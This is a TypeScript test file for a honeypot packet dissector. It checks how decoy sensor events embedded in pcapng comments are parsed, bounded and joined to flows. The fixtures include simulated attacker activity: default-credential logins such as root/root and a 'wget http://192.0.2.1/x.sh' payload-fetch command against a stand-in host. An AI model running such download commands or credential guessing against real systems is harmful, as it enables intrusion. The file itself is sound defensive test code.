import * as fc from 'fast-check'
import { describe, expect, it, test } from 'vitest'
import type { Conversation } from '#model/session.ts'
import { type DecoyEvent, decoyInterface, eventComment, eventLimits } from '#model/sensor/event.ts'
import { ethernet } from '#packet/build/ethernet.ts'
import { ip } from '#packet/build/ip.ts'
import type { TimedFrame } from '#packet/build/pcap.ts'
import { pcapng } from '#packet/build/pcapng.ts'
import { udp } from '#packet/build/transport.ts'
import { dissected, type Dissected } from '#packet/testing/dissected.ts'
import { connection, start } from '#packet/testing/exchange.ts'
import { told } from './events.ts'

const events = (...list: DecoyEvent[]): string => eventComment + JSON.stringify({ events: list })
const at = start
const login = (user: string, password: string): DecoyEvent => ({
  kind: 'login',
  at,
  protocol: 'ssh',
  user,
  password,
  accepted: false,
})
const clear = (text: string): DecoyEvent => ({
  kind: 'clear',
  at,
  protocol: 'https',
  bytes: Buffer.from(text, 'latin1').toString('base64'),
})

/** The frames of a connection with comments at its fourth packet. */
const beside = (frames: TimedFrame[], ...comments: string[]): TimedFrame[] =>
  frames.map((frame, place) => (place === 3 ? { ...frame, comments } : frame))

const encrypted = connection('\x16\x03\x01\x00\x02xx\x17\x03\x03\x00\x04abcd', 'y', { destinationPort: 443 })

const ofSensor = (frames: TimedFrame[], name?: string): Promise<Dissected> =>
  dissected(pcapng(frames, name === undefined ? {} : { name }), undefined, { isOfSensor: true })

async function only(frames: TimedFrame[], name?: string): Promise<Conversation> {
  const { conversations } = await ofSensor(frames, name)
  expect(conversations).toHaveLength(1)
  return conversations[0]!
}

describe('what a decoy tells beside the packets', () => {
  test('joins the facts of the flow: logins as pairs, commands, links, in their order', async () => {
    const found = await only(
      beside(
        encrypted,
        events(login('root', 'root'), login('admin', '')),
        events(
          { kind: 'command', at, protocol: 'ssh', text: 'wget http://192.0.2.1/x.sh' },
          { kind: 'link', at, protocol: 'ssh', url: 'http://192.0.2.1/x.sh' },
        ),
      ),
    )
    expect(found.decoy).toEqual({
      events: 4,
      users: ['root', 'admin'],
      passwords: ['root', ''],
      commands: ['wget http://192.0.2.1/x.sh'],
      links: ['http://192.0.2.1/x.sh'],
    })
  })

  test('inside encryption is read as if it had been sent in the clear, however it is cut', async () => {
    const request = 'GET /cgi-bin/luci HTTP/1.1\r\nHost: h\r\nUser-Agent: probe\r\n\r\n'
    const plain = await only(connection(request, '', { destinationPort: 80 }))
    for (const parts of [[request], [...request]]) {
      const comments = Map.groupBy(parts, (_, place) => Math.floor(place / 32))
      const found = await only(
        beside(encrypted, ...[...comments.values()].map((some) => events(...some.map(clear)))),
      )
      expect(found.http).toEqual(plain.http)
      expect(found.protocols).toContain('http')
      expect(found.decoy?.events).toBe(parts.length)
    }
  })

  test('is believed of sensors alone: in anybody else’s capture a comment is nothing', async () => {
    const bytes = pcapng(beside(encrypted, events(login('root', 'root')), 'noisefloor-kind:network'), {
      name: decoyInterface,
    })
    const { conversations } = await dissected(bytes)
    expect(conversations[0]?.decoy).toBeNull()
    expect(conversations[0]).not.toHaveProperty('isOfNetwork')
    expect(conversations[0]?.tcp?.sequence).not.toBe(0)
  })

  test('is cut at its limits; what is beyond them, and what cannot be read, is counted and costs nothing else', async () => {
    const many = Array.from({ length: eventLimits.perFlow + 5 }, () => login('u', 'x'.repeat(20)))
    const { conversations, report } = await ofSensor(
      beside(
        encrypted,
        events(login('u', 'x'.repeat(5000)), ...many),
        `${eventComment}{`,
        `${eventComment}{"events":[{"kind":"login"}, 7]}`,
      ),
    )
    expect(conversations[0]?.decoy?.passwords).toHaveLength(eventLimits.perFlow)
    expect(conversations[0]?.decoy?.passwords[0]).toHaveLength(eventLimits.text)
    expect(report.skipped).toEqual([
      { reason: 'unreadable-events', count: 9, firstAt: { offset: expect.any(Number), packet: 4 } },
    ])
  })

  test('at a packet of a program beside the sensor says that it is of a network in use', async () => {
    expect((await only(beside(encrypted, 'noisefloor-kind:network'))).isOfNetwork).toBe(true)
    expect(await only(encrypted)).not.toHaveProperty('isOfNetwork')
  })

  test('in words of others is nothing', async () => {
    const found = await ofSensor(beside(encrypted, 'a note of some other program'))
    expect([found.conversations[0]?.decoy, found.report.skipped]).toEqual([null, []])
  })

  test('joins the flow of a datagram, too', async () => {
    const frame = ethernet(
      ip(
        { source: '198.51.100.7', destination: '203.0.113.9' },
        udp({ sourcePort: 5000, destinationPort: 11_211, payload: 'stats' }),
      ),
    )
    const event: DecoyEvent = { kind: 'command', at, protocol: 'memcached', text: 'stats' }
    expect((await only([{ at, frame, comments: [events(event)] }])).decoy?.commands).toEqual(['stats'])
  })
})

test('of packets that no network card saw the marks of the sender are not read, and what was said is', async () => {
  const frames = connection('root\r\nadmin\r\n', 'login: ', { destinationPort: 23 })
  const [seen, written] = [await only(frames), await only(frames, decoyInterface)]
  expect(seen.tcp).toMatchObject({ sequence: 1000, window: 65_535, options: expect.stringMatching(/^2-/) })
  expect(written.tcp).toEqual({
    ...seen.tcp,
    sequence: 0,
    window: 0,
    options: '',
    initRtt: null,
    sequenceIsDestination: false,
    masscanId: false,
  })
  expect([written.ttl, written.ipId]).toEqual([0, 0])
  expect([written.telnet, written.source, written.direction]).toEqual([
    seen.telnet,
    seen.source,
    seen.direction,
  ])
})

describe('no bytes make it throw', () => {
  const frames = beside(
    encrypted,
    events(login('root', 'root'), clear('GET / HTTP/1.1\r\n\r\n')),
    'noisefloor-kind:network',
  )
  const whole = pcapng(frames, { name: decoyInterface })

  it('a capture cut at every byte gives what the packets before the cut prove', async () => {
    let packets = 0
    for (let length = 4; length < whole.length; length++) {
      const { report, conversations } = await dissected(whole.subarray(0, length), undefined, {
        isOfSensor: true,
      })
      expect(report.packets).toBeGreaterThanOrEqual(packets)
      packets = report.packets
      expect(conversations).toEqual((await ofSensor(frames.slice(0, packets), decoyInterface)).conversations)
    }
    expect(packets).toBe(frames.length - 1)
  })

  it('mutated', async () => {
    const change = fc.tuple(fc.integer({ min: 4, max: whole.length - 1 }), fc.nat(255))
    await fc.assert(
      fc.asyncProperty(fc.array(change, { minLength: 1, maxLength: 6 }), async (changes) => {
        const copy = Uint8Array.from(whole)
        for (const [place, byte] of changes) copy[place] = byte
        const { report, conversations } = await dissected(copy, undefined, { isOfSensor: true })
        expect(report.sessions).toBe(conversations.length)
      }),
      { numRuns: 300, seed: 20_261_125 },
    )
  })

  it('any JSON, any text: events keep their shape and their limits', () => {
    const loose = fc.record(
      {
        kind: fc.constantFrom('login', 'command', 'link', 'clear', 'x'),
        at: fc.oneof(fc.double(), fc.string()),
        protocol: fc.constantFrom('ssh', 'http', 'gopher'),
        user: fc.string(),
        password: fc.oneof(fc.string(), fc.nat()),
        accepted: fc.boolean(),
        text: fc.string({ maxLength: 2000 }),
        url: fc.jsonValue(),
        bytes: fc.oneof(fc.base64String(), fc.string()),
      },
      { requiredKeys: [] },
    )
    const comment = fc.oneof(
      fc.string(),
      fc.array(fc.oneof(loose, fc.jsonValue())).map((list) => JSON.stringify({ events: list })),
    )
    fc.assert(
      fc.property(fc.array(comment), (comments) => {
        const made = told(comments.map((text) => eventComment + text))
        expect(made.events.length).toBeLessThanOrEqual(eventLimits.perFlow)
        for (const event of made.events)
          if (event.kind === 'command') expect(event.text.length).toBeLessThanOrEqual(eventLimits.text)
      }),
      { numRuns: 300, seed: 20_261_125 },
    )
  })
})
